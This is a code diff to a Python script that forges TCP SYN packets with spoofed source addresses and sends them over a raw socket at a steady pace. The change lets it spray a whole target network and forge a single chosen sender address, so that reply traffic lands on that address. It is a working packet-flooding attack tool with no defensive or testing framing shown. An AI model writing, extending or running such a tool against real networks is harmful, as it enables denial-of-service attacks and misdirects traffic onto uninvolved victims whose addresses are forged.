@@ -2,6 +2,8 @@
 """Sends SYNs in the name of others, at a steady pace, and listens to no answer."""
 
 import argparse
+import ipaddress
+import itertools
 import random
 import socket
 import time
@@ -13,8 +15,11 @@ FIRST_ADDRESS = 198 << 24 | 18 << 16
 ADDRESS_BITS = 17
 
 
-def make_syn(chance: random.Random, host: str, port: int) -> bytes:
-    source = socket.inet_ntoa((FIRST_ADDRESS | chance.getrandbits(ADDRESS_BITS)).to_bytes(4, "big"))
+def forge_address(chance: random.Random) -> str:
+    return str(ipaddress.IPv4Address(FIRST_ADDRESS | chance.getrandbits(ADDRESS_BITS)))
+
+
+def make_syn(chance: random.Random, source: str, host: str, port: int) -> bytes:
     return bytes(IP(src=source, dst=host, id=chance.getrandbits(16)) /
                  TCP(sport=chance.randrange(1024, 65536), dport=port, flags="S",
                      seq=chance.getrandbits(32), options=[("MSS", 1460)]))
@@ -22,19 +27,23 @@ def make_syn(chance: random.Random, host: str, port: int) -> bytes:
 
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__)
-    parser.add_argument("--host", required=True)
+    parser.add_argument("--host", type=ipaddress.ip_network, required=True,
+                        help="to whom, or to each of a network in turn")
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--seed", type=int, default=0,
                         help="the same seed gives the same senders again")
+    parser.add_argument("--source", help="in whose name, instead of many others'")
     parser.add_argument("--pace", type=float, default=0.01, metavar="SECONDS",
                         help="from one SYN to the next")
     parser.add_argument("count", type=int, metavar="SYNS")
     options = parser.parse_args()
     chance = random.Random(options.seed)
-    syns = [make_syn(chance, options.host, options.port) for _ in range(options.count)]
+    hosts = map(str, itertools.islice(itertools.cycle(options.host.hosts()), options.count))
+    syns = [(make_syn(chance, options.source or forge_address(chance), host, options.port), host)
+            for host in hosts]
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
-        for syn in syns:
-            sender.sendto(syn, (options.host, 0))
+        for syn, host in syns:
+            sender.sendto(syn, (host, 0))
             time.sleep(options.pace)
 
 
